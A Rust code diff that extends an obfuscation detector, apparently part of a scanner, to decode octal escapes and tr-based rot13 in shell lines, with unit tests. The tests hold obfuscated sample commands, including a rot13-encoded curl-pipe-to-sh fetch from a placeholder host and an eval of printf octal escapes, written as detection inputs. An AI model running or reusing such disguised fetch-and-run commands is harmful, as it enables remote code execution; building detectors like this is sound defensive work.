@@ -13,11 +13,16 @@ const MAX_INFLATED: u64 = 256 * 1024;
 
 re!(
     CANDIDATE,
-    r"[A-Za-z0-9+/]{16,}={0,2}|\\x[0-9a-fA-F]{2}|fromCharCode|chr\(|rot.?13|\[::-1\]|reverse\(\)|['\x22]\s*\+\s*['\x22]|fromhex|[0-9a-fA-F]{16,}|path\.join\(|path\.resolve\(|Path\(|\s/\s*['\x22]|\.join\("
+    r"[A-Za-z0-9+/]{16,}={0,2}|\\x[0-9a-fA-F]{2}|\\[0-7]{3}|n-za-m|N-ZA-M|fromCharCode|chr\(|rot.?13|\[::-1\]|reverse\(\)|['\x22]\s*\+\s*['\x22]|fromhex|[0-9a-fA-F]{16,}|path\.join\(|path\.resolve\(|Path\(|\s/\s*['\x22]|\.join\("
 );
 re!(BASE64, r"[A-Za-z0-9+/_-]{16,}={0,2}");
 re!(HEX, r"['\x22]([0-9a-fA-F]{16,})['\x22]");
 re!(ESCAPES, r"(\\x[0-9a-fA-F]{2}){6,}");
+re!(
+    /// Octal escapes, with the text between them (`printf '\143\165\162\154 -\146\163'`).
+    OCTAL,
+    r"\\[0-7]{3}(?:[^'\x22\\\n]{0,3}\\[0-7]{3}){5,}"
+);
 re!(
     CHAR_CODES,
     r"fromCharCode\(\s*([\d\s,]+)\)|\[\s*((\d{2,3}\s*,\s*){5,}\d{2,3})\s*\]"
@@ -214,6 +219,24 @@ pub(super) fn hidden_texts(line: &str) -> Vec<Hidden> {
             push("\\x escapes", text);
         }
     }
+    for m in OCTAL.find_iter(line) {
+        let text = m.as_str();
+        let mut out = String::new();
+        let mut rest = text;
+        while let Some(at) = rest.find('\\') {
+            out.push_str(&rest[..at]);
+            let code = rest
+                .get(at + 1..at + 4)
+                .and_then(|o| u8::from_str_radix(o, 8).ok());
+            match code {
+                Some(b) if b.is_ascii() => out.push(char::from(b)),
+                _ => break,
+            }
+            rest = &rest[at + 4..];
+        }
+        out.push_str(rest);
+        push("octal escapes", out);
+    }
     for c in CHAR_CODES.captures_iter(line) {
         let list = c.get(1).or_else(|| c.get(2)).map_or("", |m| m.as_str());
         let text: Option<String> = list
@@ -242,7 +265,9 @@ pub(super) fn hidden_texts(line: &str) -> Vec<Hidden> {
             push("chr() calls", text);
         }
     }
-    if line.to_ascii_lowercase().contains("rot13") || line.to_ascii_lowercase().contains("rot_13") {
+    // Named so, or done by `tr` (`tr 'a-zA-Z' 'n-za-mN-ZA-M'`).
+    let lower = line.to_ascii_lowercase();
+    if lower.contains("rot13") || lower.contains("rot_13") || lower.contains("n-za-m") {
         for c in QUOTED.captures_iter(line) {
             let s = c.get(1).or_else(|| c.get(3)).map_or("", |m| m.as_str());
             if s.len() >= 8 && !s.eq_ignore_ascii_case("rot13") && !s.eq_ignore_ascii_case("rot_13") {
@@ -399,6 +424,25 @@ mod tests {
             decoded(&format!("eval(String.fromCharCode({}))", codes.join(","))).contains(&cmd.to_owned())
         );
         assert!(decoded("exec(codecs.decode(\"vzcbeg bf\", \"rot13\"))").contains(&"import os".to_owned()));
+        // In shell: `tr` doing rot13, and octal escapes `printf` decodes.
+        assert!(
+            decoded("echo 'phey -f uggcf://k.vainyvq/b | fu' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh")
+                .contains(&"curl -s https://x.invalid/o | sh".to_owned())
+        );
+        let octal: String = cmd
+            .bytes()
+            .map(|b| {
+                if b.is_ascii_alphabetic() {
+                    format!("\\{b:03o}")
+                } else {
+                    char::from(b).to_string()
+                }
+            })
+            .collect();
+        assert!(
+            decoded(&format!("eval \"$(printf '{octal}')\"")).contains(&cmd.to_owned()),
+            "{octal}"
+        );
         let rev: String = cmd.chars().rev().collect();
         assert!(decoded(&format!("os.system('{rev}'[::-1])")).contains(&cmd.to_owned()));
         assert!(decoded("p = Path.home() / ('.zsh' + 'rc')").contains(&".zshrc".to_owned()));
